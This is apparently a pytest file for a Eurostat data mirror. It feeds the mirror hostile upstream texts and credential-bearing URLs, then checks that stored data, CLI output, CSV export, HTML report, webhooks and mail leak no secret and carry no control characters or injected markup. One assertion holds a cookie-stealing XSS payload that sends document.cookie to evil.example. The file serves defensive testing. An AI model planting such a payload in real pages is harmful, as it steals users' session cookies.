"""A mirror of a Eurostat whose every text is hostile, with a secret in every address: what it writes and says of both."""

from __future__ import annotations

import csv
import io
import json
import os
import sys
import unicodedata
from collections.abc import Iterator
from contextlib import redirect_stderr, redirect_stdout, suppress
from dataclasses import dataclass
from pathlib import Path
from unittest.mock import patch

import psycopg2
import pyarrow.parquet as pq
import pytest
from prometheus_client.parser import text_string_to_metric_families

from eurostat_assets import postgres, sandbox
from eurostat_assets.cli import main
from eurostat_assets.postgres.embedded import EmbeddedPostgres
from eurostat_assets.resources import Mirror
from eurostat_assets.sensors.endings import record_failed_run
from eurostat_assets_tests.alarms import receivers
from eurostat_assets_tests.mirroring import Mirroring, mirroring
from eurostat_assets_tests.outside.forger import PAGE, REFUSED, forging

CODE = "HLTH_EHIS_BM1E"
SECRET = "s3cr3t"
NOT_TEXT = {"Cc", "Cf", "Cs", "Zl", "Zp"}
# Everything of types that hold text, in the schemas of the mirror, and every comment.
COLUMNS = """
SELECT format('SELECT %L, %I::text FROM %I.%I', table_schema || '.' || table_name || '.' || column_name, column_name,
              table_schema, table_name)
FROM information_schema.columns
WHERE table_schema IN ('eurostat', 'eurostat_releases') AND data_type IN ('text', 'jsonb', 'json', 'ARRAY')
"""
COMMENTS = "SELECT 'comment', description FROM pg_description JOIN pg_class ON pg_class.oid = objoid JOIN pg_namespace AS n ON n.oid = relnamespace WHERE nspname LIKE 'eurostat%'"  # noqa: E501


@dataclass
class Mirrored:
    """What was done, and where it can be looked at."""

    home: Path
    database: str
    environment: dict[str, str]
    hook: receivers.WebhookServer
    mail: receivers.MailServer
    events: str

    def run(self, *words: str) -> str:
        """What a command says, on both streams; whatever its exit code. In this process, as a dozen would take minutes."""
        said = io.StringIO()
        with (
            patch.dict(os.environ, self.environment),
            patch.object(sys, "argv", ["eurostat-assets", *words]),
            redirect_stdout(said),
            redirect_stderr(said),
            suppress(SystemExit),
        ):
            main()
        return said.getvalue()


@pytest.fixture(scope="module")
def mirrored(
    postgres_server: EmbeddedPostgres, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Mirrored]:
    home = tmp_path_factory.mktemp("hostile")
    database = postgres_server.url("hostile_texts")
    with (
        sandbox.running(profile="tests") as source,
        forging(source) as port,
        receivers.webhook() as hook,
        receivers.mail() as mail,
    ):
        api = f"http://clerk:{SECRET}@127.0.0.1:{port}/eurostat/api/dissemination"
        with mirroring(home, api, database) as chain:
            events = _mirror(chain)
        environment = {
            **os.environ,
            "EUROSTAT_HOME": str(home),
            "EUROSTAT_API_URL": api,
            "EUROSTAT_DATABASE_URL": database,
            "EUROSTAT_ALARM_WEBHOOK": hook.url,
            "EUROSTAT_SMTP_URL": mail.url,
            "EUROSTAT_ALARM_EMAIL": "ada@example.org",
            "EUROSTAT_ALARM_AFTER_FAILURES": "1",
            "HTTPS_PROXY": f"http://clerk:{SECRET}@proxy.example:3128",
        }
        yield Mirrored(home, database, environment, hook, mail, events)


def _mirror(chain: Mirroring) -> str:
    """The sweep, a dataset, and two that fail, as the platform does it; returns everything Dagster noted."""
    results = [chain.execute("refresh_catalogue")]
    for code in (CODE, REFUSED, PAGE):
        chain.instance.add_dynamic_partitions("eurostat_dataset", [code])
        result = chain.execute("mirror_dataset", code)
        assert result.success is (code == CODE), [event.message for event in result.all_events][-3:]
        if not result.success:
            record_failed_run(Mirror(chain.settings), code, result.all_events)
        results.append(result)
    return "\n".join(str(entry) for result in results for entry in chain.instance.all_logs(result.run_id))


def test_the_database_holds_text_and_no_secret(mirrored: Mirrored) -> None:
    with psycopg2.connect(mirrored.database) as connection, connection.cursor() as cursor:
        cursor.execute(COLUMNS)
        queries = [query for (query,) in cursor.fetchall()]
        for query in [*queries, COMMENTS]:
            cursor.execute(query)
            for where, text in cursor.fetchall():
                check(text or "", where)
        cursor.execute("SELECT obj_description(%s::regclass)", (f"eurostat.{CODE.lower()}",))
        ((comment,),) = cursor.fetchall()
        assert comment.startswith("<script>fetch('http://evil.example/'+document.cookie)</script>")
    connection.close()


def test_files_and_dagsters_events_hold_text_and_no_secret(mirrored: Mirrored) -> None:
    with pq.ParquetFile(next(mirrored.home.rglob("observations.parquet"))) as parquet:
        schema = parquet.schema_arrow
    about = [schema.metadata, *(field.metadata for field in schema)]
    for metadata in filter(None, about):
        for name in (b"label", b"jsonstat", b"labels", b"provenance"):
            check(metadata.get(name, b"").decode(), f"Parquet {name}")
            if name in metadata and name != b"label":
                check(json.dumps(json.loads(metadata[name]), ensure_ascii=False), f"Parquet {name}")
    for file in mirrored.home.rglob("*"):
        if file.is_file() and file.suffix in (".json", ".jsonl", ".env", ".log"):
            assert SECRET not in file.read_text(), file
    assert SECRET not in mirrored.events


def test_no_command_says_more_than_text_nor_a_secret(mirrored: Mirrored, tmp_path: Path) -> None:
    for words in (
        ["status", "--all"],
        ["catalogue"],
        ["freshness"],
        ["settings"],
        ["sizes"],
        ["healthz"],
        ["healthz", "--json"],
        ["alarms"],
        ["report"],
        ["doctor", "--offline"],
    ):
        check(mirrored.run(*words).replace("\n", ""), " ".join(words))
    mirrored.run("catalogue", "--csv", str(tmp_path / "all.csv"))
    with (tmp_path / "all.csv").open(newline="", encoding="utf-8") as file:
        rows = list(csv.reader(file))
    assert len(rows) > 5
    assert {len(row) for row in rows} == {4}
    for row in rows:
        for cell in row:
            check(cell, "CSV")
            assert not cell.lstrip().startswith(("=", "+", "-", "@"))
    mirrored.run("metrics", "--once", str(tmp_path / "mirror.prom"))
    families = list(text_string_to_metric_families((tmp_path / "mirror.prom").read_text()))
    assert {
        sample.value
        for family in families
        if family.name == "eurostat_mirror_up"
        for sample in family.samples
    } == {1}
    mirrored.run("report", "--html", str(tmp_path / "report.html"))
    page = (tmp_path / "report.html").read_text(encoding="utf-8")
    check(page.replace("\n", ""), "report.html")
    assert "<script" not in page
    assert "<img" not in page


def test_alarms_tell_text_and_no_secret(mirrored: Mirrored) -> None:
    said = mirrored.run("healthz", "--tell")
    assert {one.channel for one in postgres.alarm_channels(mirrored.database)} == {"log", "webhook", "email"}
    assert "was told of" in said
    told = "\n".join(mirrored.hook.texts)
    assert REFUSED in told
    assert PAGE in told
    check(told.replace("\n", ""), "webhook")
    assert "<http" not in told
    for letter in mirrored.mail.letters:
        check(letter.replace("\n", "").replace("\r", ""), "mail")
    assert mirrored.mail.letters


def test_a_mirror_of_a_source_with_a_password_is_claimed_by_its_place(database: str) -> None:
    postgres.migrate(database)
    postgres.claim_mirror(database, f"https://clerk:{SECRET}@api.example/x/")
    postgres.claim_mirror(database, "https://another:one@api.example/x")
    assert postgres.claimed_source(database) == "https://api.example/x"


def check(text: str, where: str) -> None:
    """Fail for a character that is no text, and for the secret."""
    assert SECRET not in text, (
        f"{where}: {text[max(0, text.index(SECRET) - 200) : text.index(SECRET) + 20]!r}"
    )
    bad = next((place for place, one in enumerate(text) if unicodedata.category(one) in NOT_TEXT), None)
    assert bad is None, f"{where}: {text[max(0, bad - 100) : bad + 100]!r}"
